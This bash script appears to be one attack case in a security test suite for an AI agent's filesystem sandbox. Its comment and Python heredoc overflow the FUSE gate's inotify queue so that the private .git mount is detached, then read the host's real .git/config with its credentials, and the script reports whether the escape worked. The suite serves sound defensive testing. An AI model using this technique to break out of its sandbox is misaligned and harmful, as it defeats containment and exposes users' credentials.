#!/bin/bash
# 26: the sandbox's private git directory, and the read-only binds over
# protected paths, are mounts on the gate's dentries. The gate's inotify
# reader invalidates entries with FUSE_NOTIFY_INVAL_ENTRY, and the kernel's
# d_invalidate detaches every mount on an invalidated dentry. On a queue
# overflow the gate invalidates every entry it knows, .git included. The
# agent overflows the queue by itself: one process renames a big directory
# back and forth in the folder's root (the kernel holds the root's lock
# while the gate walks the tree, so the reader blocks on its first root
# entry), others write two root files in turn (one event per write). The
# private .git is then gone, and the agent reads the user's real .git
# (config with credentials, hooks, reflogs), which "is not reachable".
# Defended: the private .git stays mounted and no host .git content is read.
SB=atk26
N=${N:-30}   # thousands of files in the big directory (the user's, like node_modules)
PRE_SETUP='echo "/big/" >> .gitignore; mkdir big; for d in $(seq 1 $N); do mkdir big/$d; (cd big/$d && seq 1 1000 | sed "s/^/f/" | xargs touch); done'
. "$(dirname "$0")/lib.sh"
mkrepo
MARK="SECRET-$$-$RANDOM"
git -C "$WS" config http.extraheader "AUTHORIZATION: basic $MARK"
up
ax python3 - > "$TOP/in.log" 2>&1 <<'PY'
import os, time, multiprocessing as mp
W = "/workspace"
def gitmounted():
    return any(l.split()[4] == W + "/.git" for l in open("/proc/self/mountinfo"))
def renamer(stop):
    a, b = W + "/big", W + "/big2"
    while not stop.is_set():
        os.rename(a, b); a, b = b, a
    if a.endswith("2"): os.rename(a, b)
def writer(k, stop):
    fa = os.open(W + "/w%da" % k, os.O_CREAT | os.O_WRONLY, 0o644)
    fb = os.open(W + "/w%db" % k, os.O_CREAT | os.O_WRONLY, 0o644)
    while not stop.is_set():
        os.pwrite(fa, b"x", 0); os.pwrite(fb, b"x", 0)
print("private .git mounted at start:", gitmounted(), flush=True)
stop = mp.Event()
ps = [mp.Process(target=writer, args=(k, stop)) for k in range(2)]
for p in ps: p.start()
time.sleep(1)
ps.append(mp.Process(target=renamer, args=(stop,))); ps[-1].start()
t = time.time()
while time.time() - t < 40 and gitmounted(): time.sleep(0.5)
stop.set()
for p in ps: p.join()
print("after %.0fs the private .git mount is %s" % (time.time() - t, "there" if gitmounted() else "GONE"))
for f in ("config", "HEAD"):
    try: print(f + ":", open(W + "/.git/" + f).read())
    except Exception as e: print(f, e)
PY
sed 's/^/  inside: /' "$TOP/in.log"
grep -q "mounted at start: True" "$TOP/in.log" || setup_error "no private .git mount at start"
grep -q "$MARK" "$TOP/in.log" && { echo "the agent read the host's .git/config"; succeeded; }
grep -q "mount is GONE" "$TOP/in.log" && { echo "the private .git mount is gone"; succeeded; }
defended
